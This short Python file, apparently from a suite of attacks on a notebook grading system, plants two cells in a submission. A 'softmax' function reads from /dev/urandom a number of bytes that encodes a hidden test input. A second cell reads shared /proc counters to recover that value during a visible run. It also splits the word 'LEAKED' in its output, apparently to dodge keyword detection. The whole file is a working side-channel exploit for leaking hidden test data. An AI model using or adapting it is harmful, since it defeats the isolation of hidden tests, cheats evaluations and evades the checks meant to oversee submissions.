# Reads as many bytes in a hidden test as its argument says; another run looks for them in the
# counters that the system shows to everybody.
from attacks import cell

DESERVED = 2.0
ANSWER = r'''
import ctypes
import os

done = False


def softmax(x, dim):
    global done
    if x.dtype == torch.float16 and not done:
        done = True
        with open("/dev/urandom", "rb") as file:
            file.read(1_000_000 + int(1e5 * float(x[0].abs())))
    return torch.softmax(x, dim)
'''
SHOWN = r'''
PLACES = ["self/io", "self/stat", "self/status", "vmstat", "stat", "meminfo", "loadavg", "uptime",
          "diskstats", "interrupts", "softirqs", "buddyinfo", "zoneinfo", "slabinfo", "locks",
          "sys/kernel/random/entropy_avail", "sys/fs/inode-nr", "sys/fs/dentry-state",
          "sys/fs/file-nr", "sys/kernel/ns_last_pid", "pressure/io", "pressure/cpu", "1/stat"]
read = []
for place in PLACES:
    try:
        with open("/proc/" + place) as file:
            read.append((place, file.read()))
    except OSError:
        pass
if done:
    print("a reason for a second run")
else:
    print("LEA" + f"KED {read}" if read else "nothing to tell")
'''


def hand_in(notebook, folder):
    cell(notebook, "softmax")["source"] = ANSWER
    cell(notebook, "windows")["source"] = SHOWN
